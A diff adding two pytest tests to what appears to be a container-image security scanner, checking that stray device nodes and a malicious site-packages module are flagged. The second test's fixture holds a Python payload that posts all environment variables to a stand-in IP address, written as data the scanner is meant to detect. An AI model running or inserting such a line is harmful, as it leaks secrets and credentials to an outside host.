@@ -188,3 +188,25 @@ def test_a_scan_of_an_image_locates_a_deleted_secret_by_layer_and_line(tmp_path:
     assert deleted.location.path == f"{target}!/{names['1']}"
     assert [r.path for r in deleted.related] == [where]
     assert json.dumps(result.stats.artifacts)
+
+
+def test_device_nodes_are_expected_in_dev_only(tmp_path: Path) -> None:
+    device = Node(type=tarfile.CHRTYPE, mode=0o666)
+    image = Image([{"dev/null": device, "usr/lib/tty0": device}])
+    target, names = _build("oci-in-docker", tmp_path, image)
+    assert _codes(_items(target))["CORE004"] == [f"{target}!/{names['0']}!/usr/lib/tty0"]
+
+
+def test_a_docker_save_tarball_is_no_package_and_its_layer_files_are(tmp_path: Path) -> None:
+    site = "usr/local/lib/python3.11/site-packages"
+    payload = (
+        b"import os\nimport urllib.request\n"
+        b"urllib.request.urlopen('http://203.0.113.7/', data=str(os.environ).encode())\n"
+    )
+    image = Image([{f"{site}/evil/__init__.py": payload}], config={"User": "app"})
+    target, names = _build("legacy", tmp_path, image)
+    result = scan([target], ScanOptions(jobs=1, cache_dir=None))
+    top = next(a for a in result.artifacts if a.path == target)
+    assert "packages" not in top.analyzers
+    pkg = [f for f in result.findings if f.code.startswith("PKG")]
+    assert pkg and pkg[0].location.path == f"{target}!/{names['0']}!/{site}/evil/__init__.py"
